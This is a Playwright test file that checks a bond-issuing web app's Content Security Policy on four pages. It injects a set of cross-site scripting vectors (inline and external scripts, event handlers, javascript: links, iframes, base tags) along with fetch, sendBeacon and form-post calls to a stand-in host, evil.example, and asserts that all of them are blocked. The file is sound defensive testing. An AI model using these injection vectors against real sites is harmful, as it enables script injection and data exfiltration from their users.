import { type Page, test } from '@playwright/test';
import { newCustomer, rememberCustomer, sessionText } from '../support/session-actions';
import { addVerifiableBond } from '../support/verifiable-bond';

const { expect } = test;

// Violations are the purpose of these tests, so the usual check is off.

/** The violations that the browser must report. */
const REFUSED = [
  'script-src-elem',
  'script-src-attr',
  'style-src-elem',
  'img-src',
  'frame-src',
  'object-src',
  'connect-src',
  'form-action',
  'base-uri',
];

/** An attacker's server, which would answer everything, and the requests it received. */
async function watchEvil(page: Page): Promise<string[]> {
  const reached: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    reached.push(new URL(route.request().url()).pathname);

    return route.fulfill({
      headers: { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' },
      body: 'window.attacked = ["script of another site"]',
    });
  });

  return reached;
}

/** Adds possible injections to the page, and waits until the browser has refused all of them. */
function attack(page: Page): Promise<{ ran: string[]; refused: string[] }> {
  return page.evaluate(async (wanted) => {
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.add(effectiveDirective),
    );
    const add = (name: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.textContent = text;
      document.body.append(element);

      return element;
    };

    const runs = (what: string) => `(window.attacked ??= []).push('${what}')`;
    add('script', {}, runs('inline script'));
    add('script', { src: 'https://evil.example/script.js' });
    add('script', { src: `data:text/javascript,${runs('script as data')}` });
    add('button', { onclick: runs('handler') }).click();
    add('a', { href: `javascript:${runs('address')}` }).click();
    add('img', { src: 'https://evil.example/image.png', onerror: runs('handler of an error') });
    add('iframe', { src: 'https://evil.example/frame' });
    add('iframe', { srcdoc: `<script>parent.attacked = ['frame']</script>` });
    add('object', { data: 'https://evil.example/object' });
    add('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' });
    add('base', { href: 'https://evil.example/base/' });
    await fetch('https://evil.example/fetch').catch(() => undefined);
    navigator.sendBeacon('https://evil.example/beacon');
    const form = add('form', { action: 'https://evil.example/form', method: 'post' });
    (form as HTMLFormElement).submit();
    while (!wanted.every((directive) => refused.has(directive))) {
      await new Promise((fulfil) => requestAnimationFrame(fulfil));
    }

    return { ran: (window as { attacked?: string[] }).attacked ?? [], refused: [...refused] };
  }, REFUSED);
}

for (const [name, open] of [
  ['an open page', (page: Page) => page.goto('/')],
  [
    'the dashboard of a customer',
    async (page: Page) => {
      await rememberCustomer(page.context(), await sessionText(await newCustomer()));
      await page.goto('/dashboard');
      await expect(page.getByRole('heading', { name: 'Dashboard' })).toBeVisible();
    },
  ],
  ['the wizard', (page: Page) => page.goto('/quote?bondType=notary&state=TN')],
  [
    'the page of a bond that a clerk verifies',
    async (page: Page) => {
      await page.goto(`/verify/${await addVerifiableBond()}`);
      await expect(
        page.getByRole('heading', { name: 'This bond is genuine and in force' }),
      ).toBeVisible();
    },
  ],
] as const) {
  test(`code injected into ${name} can't run, load anything or send data`, async ({ page }) => {
    const reached = await watchEvil(page);
    await open(page);
    const address = page.url();

    const { ran, refused } = await attack(page);

    expect(ran).toEqual([]);
    expect(refused).toEqual(expect.arrayContaining(REFUSED));
    expect(page.url()).toBe(address);
    expect(reached).toEqual([]);
  });
}
